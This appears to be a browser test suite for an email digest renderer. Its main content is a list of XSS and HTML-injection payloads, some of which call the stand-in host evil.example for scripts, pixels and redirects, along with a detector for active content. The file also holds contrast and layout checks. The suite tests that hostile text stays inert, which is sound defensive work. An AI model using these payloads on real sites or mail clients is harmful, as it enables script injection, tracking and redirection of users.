"""A mail's HTML in headless chromium: whatever a post says stays text, and both lines of a pair are seen."""

from __future__ import annotations

import dataclasses
import sys
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from devtools import Page

sys.path.append(str(Path(__file__).parent.parent / "render"))

from sample_day import DAY, PAIRED, REPAIRED, RICH, fact, glossed, guessed, line, pair

from digest.model import Abstract, Both, Digest, Failure, Listed, Verdict
from digest.recorded import digest_of
from digest.render.mail import letter
from digest.render.site import json_text

pytestmark = pytest.mark.browser

Show = Callable[..., Page]

LARGE = 50_000_000  # bytes: nothing gives way
DO = "owned=1"
# Ways into a page, each of which would set `owned`, ask for an address, or open a dialog.
PAYLOADS = (
    f"<script>{DO}</script>",
    f"<ScRiPt >{DO}</sCrIpT>",
    f"<script/x>{DO}</script>",
    f"<scr<script>ipt>{DO}</scr</script>ipt>",
    f"</title><script>{DO}</script>",
    f"</style><script>{DO}</script>",
    f"</textarea><script>{DO}</script>",
    f"</bdi></div></td></table><script>{DO}</script>",
    f"<!--><script>{DO}</script>-->",
    f"--><script>{DO}</script><!--",
    f"<![CDATA[<script>{DO}</script>]]>",
    f"<![endif]--><script>{DO}</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js>",
    f"<img src=x onerror={DO}>",
    f"<img/src=x/onerror={DO}>",
    f'<img src="x" onerror="{DO}"',
    f"<img src='x' onerror='{DO}'>",
    f"<IMG SRC=x OnErRoR={DO}>",
    "<img src=x onerror=&#111;wned&#61;1>",
    f"<image src=x onerror={DO}>",
    f"<img srcset='https://evil.example/a 1x' onerror={DO}>",
    "<img src=https://evil.example/pixel.gif width=1 height=1>",
    f"<svg onload={DO}>",
    f"<svg/onload={DO}//",
    f"<svg><script>{DO}</script></svg>",
    f"<svg><animate onbegin={DO} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{DO}><text>x</text></a></svg>",
    f"<math><mtext><img src=x onerror={DO}></mtext></math>",
    f"<body onload={DO}>",
    "<body background=https://evil.example/a.png>",
    "<table background=https://evil.example/a.png>",
    f"<input autofocus onfocus={DO}>",
    f"<select autofocus onfocus={DO}>",
    f"<details open ontoggle={DO}>x",
    f"<video><source onerror={DO}></video>",
    "<video poster=https://evil.example/a.png>",
    f"<audio src=x onerror={DO}>",
    f"<marquee onstart={DO}>x</marquee>",
    f"<iframe src=javascript:parent.{DO}></iframe>",
    f"<iframe srcdoc='<script>parent.{DO}</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    f"<object data=javascript:{DO}></object>",
    "<object data=https://evil.example/a.swf></object>",
    "<embed src=https://evil.example/a.swf>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<link rel=prefetch href=https://evil.example/a>",
    "<style>@import 'https://evil.example/a.css';</style>",
    "<style>body{background:url(https://evil.example/a.png)}</style>",
    "<style>*{display:none!important}</style>",
    "<div style=\"background:url('https://evil.example/a.png')\">x</div>",
    '" style="background:url(https://evil.example/a.png)',
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button autofocus>x</button></form>",
    f'" onmouseover="{DO}" autofocus onfocus="{DO}" x="',
    f"' onmouseover='{DO}' autofocus onfocus='{DO}' x='",
    f"`onmouseover=`{DO}",
    f"javascript:{DO}",
    f"JaVaScRiPt:{DO}",
    f"java\tscript:{DO}",
    f" javascript:{DO}",
    f"\x01javascript:{DO}",
    f"data:text/html,<script>{DO}</script>",
    f"vbscript:{DO}",
    f'https://a.example/" onclick="{DO}',
    f"https://a.example/'><script>{DO}</script>",
    "https://a.example/x url(https://evil.example/a.png)",
    f"{{{{ 7*7 }}}}<script>{DO}</script>",
    f"{{% raw %}}<script>{DO}</script>",
    f"&lt;script&gt;{DO}&lt;/script&gt;",
    f"&#60;script&#62;{DO}&#60;/script&#62;",
    f"\u202e<script>{DO}</script>",
    f"<\x00script>{DO}</script>",
    f"\ufeff<script>{DO}</script>",
    f"＜script＞{DO}＜/script＞",
    f"<xss id=x tabindex=1 autofocus onfocus={DO}>",
    f"<a href=x onclick={DO} autofocus onfocus={DO}>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=owned=1>'>",
    f"<template><script>{DO}</script></template>",
)  # fmt: skip


def hostile(number: int, text: str) -> Abstract:
    """Make a post that says one text wherever a post can say anything."""
    name, both = f"x{number}", Both(text, text)
    verdict = Verdict(0.5, False, None, (text, f"numbers:{text}"))
    zh, en = glossed(line(text, "zh", text), (text, text)), guessed(line(text, "en"), (text[0], 0.5, text))
    lines = (pair(number, zh, en, verdict, "machine"), pair(number, dataclasses.replace(zh, lang=text), None))
    elsewhere = Listed(name, both, both, text, PAIRED.published, "same", name, DAY.day)
    return dataclasses.replace(
        REPAIRED,
        id=text, title=both, title_langs=both, url=both, source=text, lang=text, credits=(text,), notes=(text,),
        genre=text, pairs=lines, outline=lines, title_made=dataclasses.replace(lines[0], engine=text), terms=(both,),
        card=(fact(text, text, text), fact("paper", text, text), dataclasses.replace(fact("code", text), value=both)),
        also=(elsewhere, dataclasses.replace(elsewhere, why="comparable")), rank=((text, 1.0), (f"topic:{text}", 1.0)),
        published=PAIRED.published + timedelta(minutes=number),
    )  # fmt: skip


def hostile_day(order: tuple[str, str]) -> Digest:
    """Make a day of one such post a payload, in all its sections, and say each at the day's head and foot too."""
    posts = tuple(hostile(number, text) for number, text in enumerate(PAYLOADS))
    told = "".join(PAYLOADS)
    return dataclasses.replace(
        DAY,
        title=told,
        order=order,
        abstracts=(*posts, *(dataclasses.replace(each, status="late") for each in posts[:5])),
        newly=posts[:10],
        rest=tuple(listed for each in posts for listed in each.also[:1]),
        failures=tuple(Failure(text, text, text) for text in PAYLOADS),
        quality=tuple((text, 1) for text in PAYLOADS),
        refused=tuple((text, 1) for text in PAYLOADS),
        credits=PAYLOADS,
        offer=Both(told, told),
        signature=told,
    )


# What a mail must not have: an element that does something, a handler, or a link that is none.
ACTIVE = """
[...document.querySelectorAll(
  'script, img, image, svg, math, iframe, object, embed, link, base, form, input, select, button, video, audio, ' +
  'source, details, template, noscript, marquee, textarea, xss, meta[http-equiv=refresh]'
)].map(e => e.outerHTML.slice(0, 90)).concat(
  [...document.querySelectorAll('*')].flatMap(e => [...e.attributes].filter(a => /^on|^src|^srcset|^background|^poster/
    .test(a.name) || (a.name == 'style' && /url\\(|@import/i.test(a.value))).map(a => a.name + '=' + a.value)),
  [...document.links].filter(a => !/^(https?|mailto):$/.test(a.protocol)).map(a => a.href)
)
"""
OWNED = "typeof owned"


def watched(tab: Page) -> dict[str, Any]:
    """Say all that a page did or could do, nothing where it is inert."""
    wait = "new Promise(done => setTimeout(done, 300))"  # for what happens after the page has loaded
    tab.ask("Runtime.evaluate", expression=wait, awaitPromise=True)
    tab.run("document.querySelectorAll('a').forEach(e => e.focus())")
    found = {
        "dialogs": len(tab.seen("Page.javascriptDialogOpening")),
        "requests": tab.requests()[1:],
        "complaints": tab.complaints(),
        "active": tab.run(ACTIVE),
        "owned": tab.run(OWNED) != "undefined",
    }
    return {name: value for name, value in found.items() if value}


def test_the_watch_sees_what_a_page_does(show_text: Show) -> None:
    """A watch that cannot see anything proves nothing: the same texts, not escaped, are seen."""
    assert len(PAYLOADS) >= 50
    assert len(set(PAYLOADS)) == len(PAYLOADS)
    for text in ("<script>owned=1</script>", "<img src=x onerror=owned=1>", "<svg onload=owned=1>"):
        assert watched(show_text(f"<!doctype html><body>{text}"))["owned"], text
    assert watched(show_text("<!doctype html><script>nothing.at.all</script>"))["complaints"]
    for text in ("<img src=nowhere.gif>", "<style>body{background:url(nowhere.gif)}</style>"):
        assert watched(show_text(f"<!doctype html><body>{text}"))["requests"], text
    assert watched(show_text("<!doctype html><a href='javascript:1'>x</a>"))["active"]


@pytest.mark.parametrize("order", [("zh", "en"), ("en", "zh")], ids=["zh-first", "en-first"])
@pytest.mark.parametrize(
    "unsubscribe", ["", "javascript:owned=1", 'mailto:a@b.example?subject="><script>owned=1</script>']
)
def test_hostile_text_stays_text(show_text: Show, order: tuple[str, str], unsubscribe: str) -> None:
    digest = digest_of(json_text(hostile_day(order)), "a hostile day")
    said = letter(digest, unsubscribe=unsubscribe, limit=LARGE)
    assert (said.shown, said.left) == (len(PAYLOADS) + 15, 0)
    tab = show_text(said.html, width=700)
    assert watched(tab) == {}
    text = tab.run("document.body.textContent")
    for payload in PAYLOADS:
        if payload.isprintable() and "\u202e" not in payload and payload == " ".join(payload.split()):
            assert text.count(payload) > 5, payload


# Each line of a pair: whether it is seen, within the window, and its contrast by WCAG 2.2 against the ground it has.
SEEN = """
(() => {
  const part = c => c.match(/[\\d.]+/g).map(Number);
  const probe = document.body.appendChild(document.createElement('div'));
  probe.style.background = 'Canvas';
  const canvas = part(getComputedStyle(probe).backgroundColor).slice(0, 3);
  probe.remove();
  const over = (top, alpha, ground) => top.map((v, i) => v * alpha + ground[i] * (1 - alpha));
  const ground = e => {
    if (!e) return canvas;
    const [r, g, b, alpha = 1] = part(getComputedStyle(e).backgroundColor);
    return over([r, g, b], alpha, ground(e.parentElement));
  };
  const opacity = e => e ? getComputedStyle(e).opacity * opacity(e.parentElement) : 1;
  const light = rgb => rgb.map(v => v / 255).map(v => v <= .04045 ? v / 12.92 : ((v + .055) / 1.055) ** 2.4)
    .reduce((sum, v, i) => sum + v * [.2126, .7152, .0722][i], 0);
  const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT), found = [];
  while (walk.nextNode()) {
    const e = walk.currentNode.parentElement, range = document.createRange();
    range.selectNodeContents(walk.currentNode);
    const boxes = [...range.getClientRects()].filter(r => r.width && r.height);
    if (!walk.currentNode.data.trim() || !boxes.length) continue;
    const under = ground(e), style = getComputedStyle(e), [r, g, b, alpha = 1] = part(style.color);
    const [x, y] = [light(over([r, g, b], alpha * opacity(e), under)), light(under)];
    found.push({
      text: walk.currentNode.data.trim(), ratio: (Math.max(x, y) + .05) / (Math.min(x, y) + .05),
      inside: boxes.every(r => r.left >= 0 && r.right <= innerWidth + 1), size: parseFloat(style.fontSize),
    });
  }
  return found;
})()
"""


@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
@pytest.mark.parametrize("width", [360, 700])
@pytest.mark.parametrize("name", ["day", "rich", "english"])
def test_both_lines_of_a_pair_are_seen(show_text: Show, name: str, width: int, dark: bool) -> None:
    digest = {"day": DAY, "rich": RICH, "english": dataclasses.replace(RICH, order=("en", "zh"))}[name]
    tab = show_text(letter(digest, limit=LARGE).html, width=width, dark=dark)
    assert tab.run("innerWidth") == width, "the mail is not zoomed out to fit"
    assert tab.run("document.documentElement.scrollWidth") <= width
    found = tab.run(SEEN)
    assert [each for each in found if not each["inside"]] == []
    assert [(each["text"], round(each["ratio"], 1)) for each in found if each["ratio"] < 4.5] == []
    seen = "".join(each["text"] for each in found).replace(" ", "")
    for both in PAIRED.pairs:
        for each in (both.zh, both.en):
            assert each
            assert each.text.replace(" ", "") in seen
    assert min(each["size"] for each in found) >= 11, "pixels"


def test_a_mail_in_the_dark_is_dark(show_text: Show) -> None:
    """Else the contrasts above were those of a light page."""
    html = letter(DAY).html
    colour = "getComputedStyle(document.querySelector('h1, h2, h3')).color"
    assert show_text(html).run(colour) != show_text(html, dark=True).run(colour)


@pytest.mark.parametrize("width", [360, 700])
def test_nothing_is_wider_than_the_window(show_text: Show, width: int) -> None:
    """Texts without a place to break, in every part of a post."""
    long = "https://a.example/" + "very-long-path-without-a-break_" * 12
    post = hostile(1, long)
    solid = dataclasses.replace(post, pairs=(pair(1, line("字" * 300, "zh"), line("x" * 300, "en")),))
    digest = dataclasses.replace(
        DAY, title=long, abstracts=(post, solid), newly=(post,), rest=post.also, signature=long,
        failures=(Failure(long, "fetch", long),),
    )  # fmt: skip
    tab = show_text(letter(digest, limit=LARGE, unsubscribe=f"mailto:{'a' * 99}@a.example").html, width=width)
    assert tab.run("document.documentElement.scrollWidth") <= width
    assert [each["text"][:40] for each in tab.run(SEEN) if not each["inside"]] == []
